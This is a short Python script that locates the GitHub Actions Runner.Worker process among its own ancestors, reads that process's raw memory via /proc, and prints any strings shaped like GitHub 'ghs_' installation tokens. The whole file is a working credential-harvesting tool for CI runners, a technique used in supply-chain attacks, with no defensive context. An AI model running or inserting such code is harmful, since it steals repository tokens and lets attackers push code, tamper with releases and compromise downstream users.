# Finds the runner's worker among its own ancestors, and in its memory what looks like a token.
import os, re

def worker():
    pid = os.getpid()
    while pid > 1:
        with open(f'/proc/{pid}/stat') as stat:
            name, rest = re.match(r'\d+ \((.*)\) . (.*)', stat.read(), re.S).groups()
        if name == 'Runner.Worker':
            return pid
        pid = int(rest.split()[0])
    raise SystemExit('no Runner.Worker')

pid = worker()
with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as mem:
    for line in maps:
        start, end, readable = re.match(r'([0-9a-f]+)-([0-9a-f]+) (r?)', line).groups()
        if not readable:
            continue
        try:
            mem.seek(int(start, 16))
            for found in re.findall(rb'ghs_[A-Za-z0-9]{36}', mem.read(int(end, 16) - int(start, 16))):
                print(found.decode())
        except (OSError, OverflowError):
            pass
